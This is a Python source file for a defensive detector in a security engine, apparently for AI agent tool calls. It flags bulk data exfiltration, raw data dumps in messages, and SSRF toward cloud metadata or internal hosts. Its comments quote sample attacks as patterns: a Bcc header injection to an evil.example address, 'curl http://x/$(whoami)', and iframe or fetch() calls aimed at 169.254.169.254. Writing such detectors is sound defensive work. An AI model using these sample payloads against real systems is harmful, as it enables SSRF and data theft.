"""Detector `data_exfiltration`: data leaving to outside hosts, and SSRF to metadata/internal targets.

Two questions. (1) Is this call shipping data out? Bulk records about people or carrying
secrets (>= 8 KB of structured rows, or >= 50 records; prose is not rows) or bulk personal data
sent to an external host or recipient is CRITICAL, rows of anything else (a product catalogue)
HIGH; data encoded into a URL or a DNS name, and a dump piped into a network client in a
command, are exfil_smuggle's;
a message (mail, chat) whose body is a raw data dump — JSON, a Python literal, a quoted
value lifted from another tool's output — is HIGH, CRITICAL if the dump carries strong PII
or secrets: people write prose to each other, agents under injection forward tool output.
A plain REST call with a small JSON body is ordinary. (2) Is a fetch aimed inside? Cloud
metadata, raw-protocol schemes (gopher, dict, file...) and internal addresses spelled to
evade a check (or hidden after an `@` in the path, or embedded in markup a renderer fetches)
are CRITICAL; a plainly written loopback/private target or the in-cluster Kubernetes API is HIGH;
a developer's own app on localhost with a dev port (`http://localhost:3000/api`) is MEDIUM.
Secrets leaving are the `secrets` detector's. Flows from a sensitive source (credential files,
env dumps, DB dumps) to an outbound sink in commands and attachments are exfil_flow's; data in
a URL's query or a markdown image, system-file contents, env dumps in code, git pushes and DNS
labels are exfil_content's. A dev-server URL keeps its MEDIUM only for a browser/HTTP tool the
user drives, with no exfil cue (exfil_flow.dev_server_cue).
"""

from __future__ import annotations

import re

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors.code_fetch import fetched_by_code
from aegis_mcp.engine.detectors.exfil_hook import output_in_url, webhook_to_collector
from aegis_mcp.engine.detectors.exfil_mail import HEADER_INJECTION_PATTERN, header_injection
from aegis_mcp.engine.detectors.base import R_CONTENT, R_EMAIL, R_IDENT, R_PATH, R_SHELL, R_TEXT, R_UNKNOWN, R_URL, Fragment, ScanContext
from aegis_mcp.engine.detectors.exfil_sink import _RECIPIENT_NAMES, _URL_NAMES, SEND_WORDS, Sink, _trusted, sink_of
from aegis_mcp.engine.detectors.exfil_content import (
    _LOOKUP_TOOL_WORDS, ENV_IN_CODE_PATTERN, data_in_query, dns_labels, environment_in_code, git_push_tool,
    system_contents_sent)
from aegis_mcp.engine.detectors.exfil_flow import CLIENT_WORD_PATTERN, dev_server_cue, sensitive_attachments, shell_flows
from aegis_mcp.engine.detectors.exfil_dest import outgoing_facts, to_drop_service
from aegis_mcp.engine.detectors.exfil_content import _CODE_WORDS, _NET_IN_CODE
from aegis_mcp.engine.detectors.exfil_leaks import (
    CODE_CRED_PATTERN, code_sends_credentials, credential_material, personal_documents, records_in_urls)
from aegis_mcp.engine.detectors.exfil_data import DATA_GATE_PATTERN, code_sends_data, data_sent_out, personal_in_query
from aegis_mcp.engine.detectors.exfil_transfer import TRANSFER_GATE_PATTERN, transfers
from aegis_mcp.engine.detectors.exfil_smuggle import _HOSTISH_NAMES, SINK_PATTERN, shell_exfil, smuggled_in_urls
from aegis_mcp.engine.gates import Gate
from aegis_mcp.engine.detectors.exfil_ssrf import Verdict, judge_url
from aegis_mcp.engine.detectors.path_targets import local_file_url_as_path
from aegis_mcp.engine.detectors.pii import CONTACTS_MIN
from aegis_mcp.engine.detectors.secrets_scan import scan_context
from aegis_mcp.engine.model import RiskLevel, Signal

BULK_BYTES = 8 * 1024
BULK_RECORDS = 50
BULK_STRONG_PII = 10
BULK_CONTACTS = 25
_LOOKUP_WORDS = frozenset({"dns", "lookup", "resolve", "nslookup", "dig", "whois", "ping", "traceroute"})
_HOST_NAMES = frozenset({"host", "hostname", "ip", "ip_address", "address", "server", "domain", "target"})
# Tools that run a command on a host they log into (ssh, a remote shell, an Ansible-style runner).
_REMOTE_EXEC_WORDS = frozenset({"ssh", "exec", "execute", "shell", "command", "remote"})
_FETCH_WORDS = frozenset({
    "fetch", "get", "http", "https", "request", "curl", "wget", "browse", "browser", "navigate", "open", "url",
    "download", "scrape", "crawl", "web", "load", "visit", "read", "proxy", "ping", "connect", "webhook",
})
_URL_IN_TEXT = regex.compile(r"(?i)(?:^|[^A-Za-z0-9+.\-])([a-z][a-z0-9+.\-]{1,15}://[^\s\"'<>`]+)")
_RECORD = regex.compile(r"\{\s*[\"'][^\"'\n]{1,60}[\"']\s*:")
_SHELL_FETCH_SCHEMES = ("http:", "https:", "ftp:", "gopher:", "dict:", "ldap:", "tftp:", "file:")
_NUMERIC_SEG = regex.compile(r"^(.*)/(\d+)(?:/|$)")


# Python's str.strip() whitespace, for "the string starts with" at a joined string's line start
_WS = r"[\t\n\x0b\x0c\r\x1c-\x1f \x{85}\x{a0}\x{1680}\x{2000}-\x{200a}\x{2028}\x{2029}\x{202f}\x{205f}\x{3000}]*"


def _names_line(names: frozenset[str]) -> str:
    """An argument named one of `names`: its key is a whole line of the gate's joined text."""
    return r"(?im)^(?:" + "|".join(sorted(re.escape(n) for n in names)) + r")$"  # constants, never input


# When this detector can say anything (each line one necessary condition of a part of detect();
# bench/dev/gate_diff.py and tests/engine/test_exfil_gate.py hold it to that):
# - data leaving (sink_of: outgoing): a sending/search tool word, a recipient or URL argument
#   (by role or by name), or an open-world tool annotation;
# - SSRF (_ssrf): a URL role or a URL/host-named argument, `://` anywhere, or a PHP-style
#   wrapper (`phar:`, `data:`, ...) starting a path;
# - commands (shell_exfil, shell_flows): a network client or sink named; a DNS lookup built
#   from `$(...)`/backticks; code shipping the environment (environment_in_code);
# - smuggling in a URL or a DNS name (smuggled_in_urls): a URL or a host-named argument;
# - lookups and git pushes (dns_labels, git_push_tool): their tool words.
GATE = Gate(
    patterns=(
        "://",
        _names_line(_URL_NAMES | _HOST_NAMES | _RECIPIENT_NAMES | _HOSTISH_NAMES),
        r"(?im)^" + _WS + r"(?:php|phar|expe|zip|data|glob)[^\n]*:",
        SINK_PATTERN,
        "(?m)" + CLIENT_WORD_PATTERN,
        r"(?i)(?:dig|nslookup|host|drill|ping|hosts)\s[^\n;&]*(?:\$\(|`)",  # exfil_flow._DNS_SUBST, loosened
        ENV_IN_CODE_PATTERN,
        HEADER_INJECTION_PATTERN,
        CODE_CRED_PATTERN,  # exfil_leaks.code_sends_credentials
        TRANSFER_GATE_PATTERN,  # exfil_transfer: cloud copies, copies to raw IPs, dumps over ssh, DNS loops, secrets in queries
        DATA_GATE_PATTERN,  # exfil_data: someone's data uploaded, piped or batched out by a client
    ),
    roles=frozenset({R_URL, R_EMAIL}),
    tool_words=SEND_WORDS | {"search", "mirror"} | _LOOKUP_TOOL_WORDS,
    hints=frozenset({"openWorldHint"}),
)


_FETCHED_BY_MARKUP = ("src=", "src =", "url(", "@import", "<iframe", "<img", "<script", "<link", "<object", "<embed",
                      "data=", "background=", "poster=", "xlink:href=", "<include", "include(")


def _auto_fetched(text: str, start: int) -> bool:
    """Does markup just before `start` make a renderer load the URL (src=, url(, <iframe, an XML entity)?"""
    before = text[max(0, start - 24):start].lower().replace('"', "").replace("'", "")
    if any(m in before for m in _FETCHED_BY_MARKUP):
        return True
    wide = text[max(0, start - 100):start].lower()
    if "<!entity" in wide and "system" in wide:
        return True  # an XXE external entity the parser resolves
    # code that fetches it: `fetch("http://169.254.169.254/…")` handed to browser_evaluate or a runner
    return fetched_by_code(text, start)


_ONE_PROSE_FIELD = regex.compile(r'^\{\s*"[a-z]{1,20}"\s*:\s*"((?:[^"\\]|\\.){1,1000})"\s*\}$')


def _is_dump(text: str) -> bool:
    """A message body that is machine data (a tool's output), not something a person wrote."""
    s = text.strip()
    if len(s) < 2:
        return False
    if s[0] not in "[{\"'":
        # a fenced block or a language tag line ("python\n{...}") in front of the data
        first, _, rest = s.partition("\n")
        if first.startswith("```") or (len(first) <= 10 and first.isalpha()):
            s = rest.strip()
    if not s:
        return False
    if s[0] in "[{":
        if s[0] == "{" and len(s) <= 2048 and (m := _ONE_PROSE_FIELD.match(s)) is not None and m.group(1).count(" ") >= 3 \
                and m.group(1).rstrip()[-1:] in ".?!":
            # `{"text": "What is the grade of each student ?"}`: one sentence in an envelope (a field of a
            # tool's output has a snake_case key, `{"location_address": "456 Lincoln Ave, …"}`: still data)
            return False
        return ":" in s or '", "' in s or "', '" in s
    if "\n" in s or s[0] not in "\"'":
        return False
    # a bare quoted value lifted from a tool result
    if s[-1] == s[0] and s.count(s[0]) == 2:
        return True
    # one `"snake_case_key": value` line: a field of a tool's output (people paste config lines
    # to each other too, so a plain `"password": ...` is not enough)
    q = s[0]
    end = s.find(q, 1)
    key = s[1:end] if end > 1 else ""
    return "_" in key and key.replace("_", "").isalnum() and key.islower() and s[end + 1:end + 3].lstrip().startswith(":")


_ROW_SAMPLE = 400  # lines examined: enough to tell a table (bulk needs >= 50 rows), bounded on hostile input


def _csv_rows(text: str) -> int:
    """Rows of a delimited table among the first _ROW_SAMPLE lines: lines with the same number
    (>= 2) of one separator whose cells are values, not prose. A paragraph with two commas is
    not a record; a table's rows share a column count and hold short cells. (A count of
    _ROW_SAMPLE means "at least that many".)"""
    lines = text[:65536].split("\n", _ROW_SAMPLE)[:_ROW_SAMPLE]
    best = 0
    for sep in (",", "\t", ";", "|"):
        counts: dict[int, int] = {}
        for line in lines:
            k = line.count(sep)
            if k < 2 or len(line) > 2000:
                continue
            # prose: a sentence ("Retries fail in partial, surprising ways, as we saw."), long
            # cells, or cells of several words each -- not a row of values
            if line.rstrip()[-1:] in ".!?" or line.count(" ") > 2 * (k + 1):
                continue
            cells = line.split(sep)
            if max(map(len, cells)) > 120 or sum(c.strip().count(" ") >= 2 for c in cells) * 2 >= len(cells):
                continue
            counts[k] = counts.get(k, 0) + 1
        if counts:
            best = max(best, max(counts.values()))
    return best if best >= 5 else 0


def _records(text: str) -> int:
    n = len(_RECORD.findall(text)) if "{" in text else 0
    if n < 2 and text.count("\n") >= 5:
        n = max(n, _csv_rows(text))
    return n


def _remote_exec(ctx: ScanContext) -> bool:
    """A remote shell: a tool named for it with a command argument beside the host (a scanner's
    `target` is not a login)."""
    return bool(ctx.tool_words & _REMOTE_EXEC_WORDS) and any(f.role is R_SHELL and not f.is_key for f in ctx.fragments)


def _ssrf(ctx: ScanContext) -> list[Signal]:
    out: list[Signal] = []
    fetchy = bool(ctx.tool_words & _FETCH_WORDS)
    for f in ctx.fragments:
        if f.is_key or local_file_url_as_path(f.name, f.raw):
            continue  # (`path="file:///home/me/x.py"` is that path, fetched from nowhere: paths.py judges it)
        target = f.role is R_URL or f.name in _URL_NAMES
        # a bare host in a top-level "host"/"ip" argument; an "address" inside records is data
        hostish = f.name in _HOST_NAMES and f.role is not R_EMAIL and f.path.count("/") == 1
        worst: Verdict | None = None  # over all decoded forms: the raw one may look harmless
        raw_severity = -1
        for i, form in enumerate(f.all_forms):
            v = form.strip()
            if not v:
                continue
            single = " " not in v and "\n" not in v
            if (target or hostish) and single:
                verdict = judge_url(v, bare_host_ok=True)
            elif target and "://" in v[:20]:
                verdict = judge_url(v.split()[0])  # "http://127.0.0.1:80 /": the URL is the first word
            elif single and "://" in v and (fetchy or f.role in (R_PATH, R_UNKNOWN, R_IDENT)):
                verdict = judge_url(v)
            elif single and f.role is R_PATH and v[:4].lower() in ("php:", "phar", "expe", "zip:", "data", "glob"):
                verdict = judge_url(v)
            else:
                verdict = None
                if "://" in v:
                    # URLs mentioned inside a command or text: only what is unambiguous counts
                    for n, m in enumerate(_URL_IN_TEXT.finditer(v)):
                        if n >= 64:
                            break  # bounded: a text of 50,000 URLs must not stall the engine
                        if f.role is R_SHELL and not m.group(1).lower().startswith(_SHELL_FETCH_SCHEMES):
                            continue  # `cdda://4`, `mumble://…`: not a network fetch
                        vv = judge_url(m.group(1))
                        if vv is None:
                            continue
                        if f.role is R_SHELL and vv.rule in ("cloud_metadata", "internal_target_obfuscated"):
                            verdict = vv  # curl/wget at the metadata service or a disguised local address
                        elif vv.severity >= 2 and _auto_fetched(v, m.start(1)):
                            # `<iframe src="http://169.254.169.254/…">` handed to a PDF/HTML renderer or a
                            # browser: the renderer fetches it server-side -- SSRF through markup
                            verdict = vv._replace(detail=vv.detail + " (embedded as a resource the renderer fetches)")
                        elif vv.rule == "cloud_metadata" and verdict is None:
                            verdict = vv._replace(severity=1, rule="metadata_mentioned")
                        if verdict is not None and verdict.severity >= 3:
                            break
            if i == 0:
                raw_severity = verdict.severity if verdict is not None else 0
            elif verdict is not None and verdict.severity == 2 and verdict.severity > raw_severity:
                # only a decoded form (NFKC, percent, ...) reveals the internal address: that
                # disguise is the evasion
                verdict = verdict._replace(severity=3, rule="internal_target_obfuscated",
                                           detail=verdict.detail + " (revealed by decoding)")
            if verdict is not None and (worst is None or verdict.severity > worst.severity):
                worst = verdict
        if worst is not None and hostish and worst.rule == "internal_target" and not fetchy and _remote_exec(ctx):
            # `ssh_exec(host="10.0.0.5", command=…)`: the machine a remote shell logs into is a host of
            # the operator's own network by design; its command is judged by the shell rules. (A
            # fetching tool pointed inward is SSRF; metadata and disguised addresses stay above.)
            worst = None
        if worst is not None and worst.rule == "local_dev_server":
            cue = dev_server_cue(ctx, f.name, f.raw)
            if cue:
                # a dev port is only an alibi for a browser/HTTP tool the user drives
                worst = worst._replace(severity=2, rule="internal_target", detail=worst.detail + f"; but {cue}")
        if worst is not None:
            out.append(Signal("data_exfiltration", worst.rule, worst.detail, RiskLevel(worst.severity), f.path))
    return out


_PERSONAL_FIELDS = ("email", "e-mail", "phone", "mobile", "address", "ssn", "birth", "dob", "salary", "patient",
                    "customer", "first_name", "last_name", "firstname", "lastname", "full_name", "fullname",
                    "password", "passport", "diagnosis", "account_number", "iban", "card")


def _personal_columns(text: str) -> bool:
    """Does a table's header or a record's keys name personal fields (`email`, `phone`, `dob`, ...)?"""
    head = text[:2048].lower()
    return any(w in head for w in _PERSONAL_FIELDS)


def _personal_keys(ctx: ScanContext) -> bool:
    """Object-valued bodies: do the records' keys name personal fields?"""
    return any(f.is_key and any(w in f.name for w in _PERSONAL_FIELDS) for f in ctx.fragments[:2000])


def _payload_fragments(ctx: ScanContext) -> list[Fragment]:
    return [
        f for f in ctx.fragments
        if not f.is_key and f.role not in (R_URL, R_EMAIL) and f.name not in ("method", "subject", "title", "channel")
    ]


def _outgoing(ctx: ScanContext, sink: Sink) -> list[Signal]:
    frags = _payload_fragments(ctx)
    if not frags:
        return []
    total = sum(len(f.raw) for f in frags)
    scans = {s.fragment.path: s for s in scan_context(ctx)}
    strong_pii = 0
    contacts: set[str] = set()
    sensitive_paths: set[str] = set()
    for s in scans.values():
        if len(s.findings) == 1 and len(s.values[0]) >= 0.8 * len(s.fragment.raw.strip()):
            continue  # an address field (one recipient, one attendee) is not data being shipped
        for f, v in zip(s.findings, s.values):
            if f.family == "pii" and f.confidence == "strong":
                strong_pii += 1
                sensitive_paths.add(s.fragment.path)
            elif f.family == "pii":
                contacts.add(v.lower())
            elif f.family == "secrets" and f.confidence == "high":
                sensitive_paths.add(s.fragment.path)
    # records: structured rows inside string bodies, or array items of an object-valued body
    records = sum(_records(f.raw) for f in frags if len(f.raw) > 40)
    items = {m.group(1) + "/" + m.group(2) for f in frags for m in [_NUMERIC_SEG.match(f.path)] if m}
    records = max(records, len(items))
    where = sink.describe()
    out: list[Signal] = []
    if (total >= BULK_BYTES and records >= 10) or records >= BULK_RECORDS:
        # records about people (contacts, identifiers, personal columns) or carrying secrets:
        # a dump to block; rows of anything else (a product catalogue, metrics) may be a
        # legitimate import or report: held for a human
        personal = strong_pii > 0 or len(contacts) >= CONTACTS_MIN or bool(sensitive_paths) or any(
            _personal_columns(f.raw) for f in frags if len(f.raw) > 40) or _personal_keys(ctx)
        sev = RiskLevel.CRITICAL if personal else RiskLevel.HIGH
        what = "records about people" if personal else "records"
        out.append(Signal("data_exfiltration", "bulk_data_to_external",
                          f"{records} {what} / {total} bytes sent out ({where})", sev, ""))
    elif strong_pii >= BULK_STRONG_PII or len(contacts) >= BULK_CONTACTS:
        out.append(Signal("data_exfiltration", "bulk_pii_to_external",
                          f"{strong_pii} personal identifiers and {len(contacts)} contacts sent out ({where})", RiskLevel.CRITICAL, ""))
    if sink.kind == "message":
        for f in frags:
            if f.role in (R_CONTENT, R_TEXT, R_UNKNOWN, R_IDENT) and _is_dump(f.raw):
                sev = RiskLevel.CRITICAL if f.path in sensitive_paths else RiskLevel.HIGH
                why = " carrying personal data or secrets" if sev is RiskLevel.CRITICAL else ""
                out.append(Signal("data_exfiltration", "data_dump_in_message",
                                  f"message body is a raw data dump{why} ({where})", sev, f.path))
    elif sink.kind in ("http", "send") and len(contacts) >= CONTACTS_MIN * 3 and not out:
        out.append(Signal("data_exfiltration", "contacts_to_external",
                          f"{len(contacts)} contact details sent out ({where})", RiskLevel.HIGH, ""))
    return out


def detect(ctx: ScanContext) -> list[Signal]:
    if ctx.mode != "call":
        return []
    signals = _ssrf(ctx)
    signals.extend(shell_exfil(ctx))
    signals.extend(shell_flows(ctx))
    signals.extend(transfers(ctx))
    if not signals:
        signals.extend(data_sent_out(ctx))  # someone's data (not credentials) piped or uploaded out
        signals.extend(code_sends_data(ctx))
    signals.extend(environment_in_code(ctx))
    signals.extend(code_sends_credentials(ctx, _NET_IN_CODE, _CODE_WORDS))
    signals.extend(git_push_tool(ctx))
    signals.extend(data_in_query(ctx))
    signals.extend(dns_labels(ctx))
    sink = sink_of(ctx)
    if sink.outgoing or ctx.tool_words & _FETCH_WORDS or ctx.tool_words & _LOOKUP_WORDS:
        signals.extend(smuggled_in_urls(ctx, _trusted(ctx)))
        signals.extend(records_in_urls(ctx, _trusted(ctx)))
        if not signals:
            signals.extend(personal_in_query(ctx))
    if sink.outgoing and sink.external:
        signals.extend(_outgoing(ctx, sink))
        signals.extend(sensitive_attachments(ctx))
        signals.extend(system_contents_sent(ctx))
        signals.extend(credential_material(ctx, sink))
        signals.extend(personal_documents(ctx, sink))
        signals.extend(outgoing_facts(ctx, sink, _csv_rows))
    signals.extend(to_drop_service(ctx))
    signals.extend(header_injection(ctx))  # `a@b.example\nBcc: x@evil.example`
    if not signals:
        signals.extend(webhook_to_collector(ctx))  # every future push/message delivered to webhook.site
    if not signals:
        signals.extend(output_in_url(ctx))  # `curl http://x/$(whoami)`
    return signals
